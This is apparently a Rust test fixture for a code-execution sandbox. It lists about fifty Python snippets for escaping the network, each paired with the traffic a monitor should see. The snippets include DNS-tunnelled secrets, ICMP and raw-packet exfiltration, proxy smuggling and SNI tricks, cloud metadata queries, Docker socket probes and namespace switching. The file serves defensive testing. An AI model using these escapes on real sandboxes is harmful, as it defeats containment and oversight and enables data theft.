//! Ways out of a sandbox, as a hostile program takes them: [`WAYS`] with what the wire must have seen of each.

/// What the account of the wire must hold after a way was tried.
pub enum Seen {
    /// An attempt on this host and port by this protocol; `{B}` stands for the port of a forbidden server.
    Attempt(&'static str, &'static str, &'static str),
    /// One by TLS that asked for this server.
    Sni(&'static str, &'static str, &'static str),
    /// One by a plain request of this method.
    Request(&'static str, &'static str, &'static str),
    /// Nothing: it never leaves the program's own namespace, for this reason.
    Nothing(&'static str),
}

/// A way out.
pub struct Way {
    /// What it is called in a failure.
    pub name: &'static str,
    /// What the program does, behind [`PRELUDE`]; `{A}` and `{B}` stand for the ports of an allowed and a forbidden
    /// server of the host's loopback, `{HOST}` for another address of the host.
    pub code: &'static str,
    /// What must be seen.
    pub seen: Seen,
}

const fn way(name: &'static str, code: &'static str, seen: Seen) -> Way {
    Way { name, code, seen }
}

/// Functions of the hostile program. It prints whatever it gets back.
pub const PRELUDE: &str = r#"
import os, socket, struct, ssl, ctypes, subprocess
S = socket
libc = ctypes.CDLL(None, use_errno=True)
def tcp(family, host, port, data=b'', more=()):
    s = S.socket(family, S.SOCK_STREAM); s.settimeout(3)
    s.connect((host, port))
    s.sendall(data)
    for piece in more: s.sendall(piece)
    got = b''
    try:
        while True:
            piece = s.recv(4096)
            if not piece: break
            got += piece
    finally: print(got)
def udp(family, host, port, data=b'hello'):
    s = S.socket(family, S.SOCK_DGRAM); s.settimeout(1)
    s.setsockopt(S.SOL_SOCKET, S.SO_BROADCAST, 1)
    s.connect((host, port)); s.send(data)
    print(s.recv(4096))
def question(name, kind=1):
    labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.'))
    return b'\x12\x34\x01\0\0\x01\0\0\0\0\0\0' + labels + b'\0' + struct.pack('>HH', kind, 1)
def checksum(data):
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def echo(kind):
    head = struct.pack('>BBHHH', kind, 0, 0, 1, 1)
    return struct.pack('>BBHHH', kind, 0, checksum(head), 1, 1)
def raw(protocol, host, data, family=S.AF_INET):
    s = S.socket(family, S.SOCK_RAW, protocol); s.settimeout(0.3)
    s.sendto(data, (host, 0))
    while True: print(s.recv(4096)[:0])
def syn(host, port):
    address = S.inet_aton(host)
    head = struct.pack('>HHIIBBHHH', 40000, port, 1, 0, 5 << 4, 2, 1000, 0, 0)
    pseudo = address + address + struct.pack('>BBH', 0, 6, len(head))
    head = head[:16] + struct.pack('>H', checksum(pseudo + head)) + head[18:]
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(head), 1, 0, 64, 6, 0, address, address)
    return ip[:10] + struct.pack('>H', checksum(ip)) + ip[12:] + head
def proxy(head, *more): tcp(S.AF_INET, '127.0.0.1', 3128, head.replace('\n', '\r\n').encode(), more)
def hello(host, port, name):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    with S.create_connection((host, port), 3) as s: context.wrap_socket(s, server_hostname=name)
def curl(*words): print(subprocess.run(['curl', '-sS', '-m', '3', *words], capture_output=True))
W4, W6 = '203.0.113.9', '2001:db8::9'
"#;

use Seen::{Attempt, Nothing, Request, Sni};

const TCP: &str = "tcp";
const UDP: &str = "udp";
const ICMP: &str = "icmp";
const W4: &str = "203.0.113.9";
const W6: &str = "2001:db8::9";

/// Every way with what must be seen of it.
pub const WAYS: &[Way] = &[
    way("an address on a common port", "tcp(S.AF_INET, W4, 443)", Attempt(W4, "443", TCP)),
    way("an address on another port", "tcp(S.AF_INET, W4, 8081)", Attempt(W4, "8081", TCP)),
    way("IPv6 on a common port", "tcp(S.AF_INET6, W6, 443)", Attempt(W6, "443", TCP)),
    way("IPv6 on another port", "tcp(S.AF_INET6, W6, 22)", Attempt(W6, "22", TCP)),
    way(
        "IPv4 in an IPv6 socket",
        "tcp(S.AF_INET6, '::ffff:' + W4, 8081)",
        Attempt(W4, "8081", TCP),
    ),
    way(
        "data in the first packet",
        "s = S.socket(); s.sendto(b'x', 0x20000000, (W4, 8082))",
        Attempt(W4, "8082", TCP),
    ),
    way("UDP", "udp(S.AF_INET, W4, 4000)", Attempt(W4, "4000", UDP)),
    way("UDP over IPv6", "udp(S.AF_INET6, W6, 4000)", Attempt(W6, "4000", UDP)),
    way("QUIC", r"udp(S.AF_INET, W4, 443, b'\xc0\0\0\0\1')", Attempt(W4, "443", UDP)),
    way(
        "a resolver of the world",
        "udp(S.AF_INET, '8.8.8.8', 53, question(b'a.example'))",
        Attempt("8.8.8.8", "53", UDP),
    ),
    way(
        "a resolver of the world over IPv6",
        "udp(S.AF_INET6, '2001:4860:4860::8888', 53, question(b'a.example'))",
        Attempt("2001:4860:4860::8888", "53", UDP),
    ),
    way(
        "a resolver of the world over TCP",
        r"q = question(b'b.example'); tcp(S.AF_INET, '8.8.8.8', 53, struct.pack('>H', len(q)) + q)",
        Attempt("8.8.8.8", "53", TCP),
    ),
    way(
        "a name",
        "S.create_connection(('files.example', 443), 3)",
        Attempt("files.example", "0", UDP),
    ),
    way(
        "words as labels of a name",
        "udp(S.AF_INET, '127.0.0.1', 53, question(b'c2VjcmV0LWtleQ.x7.tunnel.example', 16))",
        Attempt("c2VjcmV0LWtleQ.x7.tunnel.example", "0", UDP),
    ),
    way(
        "words in a question for an allowed suffix",
        "udp(S.AF_INET, '127.0.0.1', 53, question(b'secret.listed.example.net'))",
        Attempt("secret.listed.example.net", "0", UDP),
    ),
    way("names over TLS", "tcp(S.AF_INET, '1.1.1.1', 853)", Attempt("1.1.1.1", "853", TCP)),
    way(
        "names over HTTPS",
        "hello('1.1.1.1', 443, 'resolver.example')",
        Sni("1.1.1.1", "443", "resolver.example"),
    ),
    way("an echo request", "raw(1, W4, echo(8))", Attempt(W4, "0", ICMP)),
    way("an echo request over IPv6", "raw(58, W6, echo(128), S.AF_INET6)", Attempt(W6, "0", ICMP)),
    way("words in an echo reply", "raw(1, W4, echo(0) + b'secret')", Attempt(W4, "0", ICMP)),
    way("a protocol of its own", "raw(99, W4, b'secret')", Attempt(W4, "0", "99")),
    way("a tunnel's protocol", "raw(47, W4, b'secret')", Attempt(W4, "0", "47")),
    way(
        "a packet made by hand",
        "S.socket(S.AF_INET, S.SOCK_RAW, 255).sendto(syn(W4, 8083), (W4, 0))",
        Attempt(W4, "8083", TCP),
    ),
    way(
        "a frame made by hand",
        "s = S.socket(S.AF_PACKET, S.SOCK_DGRAM); s.sendto(syn(W4, 8084), ('lo', 0x800))",
        Attempt(W4, "8084", TCP),
    ),
    way(
        "the hypervisor's sockets",
        "s = S.socket(S.AF_VSOCK, S.SOCK_STREAM); s.connect((2, 22))",
        Nothing("the family is closed"),
    ),
    way(
        "calls in a ring",
        "print(libc.syscall(425, 8, ctypes.create_string_buffer(120))); e = ctypes.get_errno(); raise OSError(e, 'ring')",
        Nothing("the call is closed"),
    ),
    way(
        "an abstract socket of the host",
        "s = S.socket(S.AF_UNIX); s.connect('\\0personacodebench-{B}'); print(s.recv(99))",
        Nothing("such names belong to a network namespace"),
    ),
    way(
        "a route of its own",
        "s = S.socket(S.AF_NETLINK, S.SOCK_RAW, 0); s.send(struct.pack('=IHHII', 36, 24, 0x605, 1, 0) \
         + struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack('=HHI', 8, 4, 1)); \
         r = s.recv(99); e = -struct.unpack('=i', r[16:20])[0]; raise OSError(e, 'route')",
        Nothing("routes are not its to set"),
    ),
    way(
        "a network of its own",
        "if libc.unshare(0x50000000) == 0: tcp(S.AF_INET, W4, 8085)",
        Nothing("another namespace is empty too, or cannot be made"),
    ),
    way(
        "the network of the first process",
        "f = os.open('/proc/1/ns/net', 0); print(libc.setns(f, 0))",
        Nothing("it is the same one, or not to be opened"),
    ),
    way(
        "the engine's socket",
        "[print(S.socket(S.AF_UNIX).connect(p)) for p in ('/var/run/docker.sock', '/run/docker.sock')]",
        Nothing("it is not there"),
    ),
    way(
        "without the proxy of the environment",
        "curl('--noproxy', '*', 'http://203.0.113.9/secret')",
        Request(W4, "80", "GET"),
    ),
    way(
        "an address by the proxy",
        r"proxy('CONNECT 203.0.113.9:443 HTTP/1.1\n\n')",
        Request(W4, "443", "CONNECT"),
    ),
    way(
        "a name by the proxy",
        r"proxy('GET http://files.example/x HTTP/1.1\nHost: files.example\n\n')",
        Request("files.example", "80", "GET"),
    ),
    way(
        "another host in the header",
        r"proxy('GET http://127.0.0.1:{A}/ HTTP/1.1\nHost: files.example\n\n')",
        Request("127.0.0.1", "{A}", "GET"),
    ),
    way(
        "another server in TLS",
        r"s = S.create_connection(('127.0.0.1', 3128), 3); s.sendall(b'CONNECT 127.0.0.1:{A} HTTP/1.1\r\n\r\n'); s.recv(99); c = ssl.create_default_context(); c.wrap_socket(s, server_hostname='files.example')",
        Sni("127.0.0.1", "{A}", "files.example"),
    ),
    way(
        "another host in a tunnel",
        r"s = S.create_connection(('127.0.0.1', 3128), 3); s.sendall(b'CONNECT 127.0.0.1:{A} HTTP/1.1\r\n\r\n'); s.recv(99); s.sendall(b'POST /t HTTP/1.1\r\nHost: files.example\r\n\r\n'); print(s.recv(999))",
        Request("127.0.0.1", "{A}", "POST"),
    ),
    way(
        "a second request behind the first",
        r"proxy('GET http://127.0.0.1:{A}/slow HTTP/1.1\n\nGET http://127.0.0.1:{B}/ HTTP/1.1\n\n')",
        Request("127.0.0.1", "{A}", "GET"),
    ),
    way(
        "a body whose end is told twice",
        r"proxy('POST http://127.0.0.1:{A}/ HTTP/1.1\nContent-Length: 3\nTransfer-Encoding: chunked\n\n0\n\nGET / HTTP/1.1\nHost: files.example\n\n')",
        Nothing("what is no request goes nowhere"),
    ),
    way(
        "a redirection",
        "curl('-L', '-x', 'http://127.0.0.1:3128', '--noproxy', '', 'http://127.0.0.1:{A}/redirect')",
        Request("elsewhere.example", "80", "GET"),
    ),
    way(
        "another protocol by an upgrade",
        r"proxy('GET http://files.example/ws HTTP/1.1\nHost: files.example\nConnection: Upgrade\nUpgrade: websocket\n\n')",
        Request("files.example", "80", "GET"),
    ),
    way(
        "an address as one number",
        "curl('--noproxy', '*', 'http://3405803785/')",
        Request(W4, "80", "GET"),
    ),
    way(
        "an address in other figures by the proxy",
        r"proxy('CONNECT 0x7f.1:{B} HTTP/1.1\n\n')",
        Request("0x7f.1", "{B}", "CONNECT"),
    ),
    way(
        "the address of nobody",
        "tcp(S.AF_INET, '0.0.0.0', {B})",
        Nothing("it is the sandbox's own loopback"),
    ),
    way(
        "the host's loopback",
        "tcp(S.AF_INET, '127.0.0.1', {B})",
        Nothing("it is the sandbox's own loopback"),
    ),
    way(
        "the host's loopback by the proxy",
        r"proxy('CONNECT 127.0.0.1:{B} HTTP/1.1\n\n')",
        Request("127.0.0.1", "{B}", "CONNECT"),
    ),
    way(
        "the host's loopback by its name",
        r"proxy('GET http://localhost:{B}/ HTTP/1.1\n\n')",
        Request("localhost", "{B}", "GET"),
    ),
    way(
        "another address of the host",
        "tcp(S.AF_INET, '{HOST}', {B})",
        Attempt("{HOST}", "{B}", TCP),
    ),
    way(
        "what a cloud tells its machines",
        "curl('--noproxy', '*', 'http://169.254.169.254/latest/meta-data/')",
        Request("169.254.169.254", "80", "GET"),
    ),
    way(
        "a group's address",
        "udp(S.AF_INET, '239.1.1.1', 5000)",
        Nothing("the kernel has no route for groups"),
    ),
    way(
        "everybody's address",
        "udp(S.AF_INET, '255.255.255.255', 67)",
        Nothing("the kernel has no route for everybody"),
    ),
];
